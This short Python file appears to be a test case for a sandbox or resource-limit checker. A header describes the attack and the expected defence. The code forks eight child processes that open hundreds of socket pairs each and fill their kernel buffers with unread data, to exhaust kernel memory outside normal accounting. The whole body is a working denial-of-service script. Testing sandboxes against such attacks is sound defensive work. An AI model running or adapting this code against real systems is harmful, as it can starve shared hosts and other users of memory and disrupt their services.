"""
tries = "Takes the kernel's memory by filling sockets that nobody reads, in many processes"
expect = "All processes together may have so many files open; a control group counts the memory"
proof = "harmful"
limits = {memory_mb = 400, call_s = 25}
"""

import os, socket, time

CHILDREN, PAIRS = 8, 230


def attack(targets):
    reading, writing = os.pipe()
    for _ in range(CHILDREN):
        if os.fork() == 0:
            kept, taken = [], 0
            while len(kept) < PAIRS:
                ends = socket.socketpair()
                kept.append(ends)
                for end in ends:
                    end.setblocking(False)
                    try:
                        while True:
                            taken += end.send(bytes(1 << 16))
                    except OSError:
                        pass
            os.write(writing, b"%9d\n" % taken)
            time.sleep(60)
            os._exit(0)
    taken = sum(int(os.read(reading, 10)) for _ in range(CHILDREN))
    return boast(targets) if taken > 500 << 20 else ""
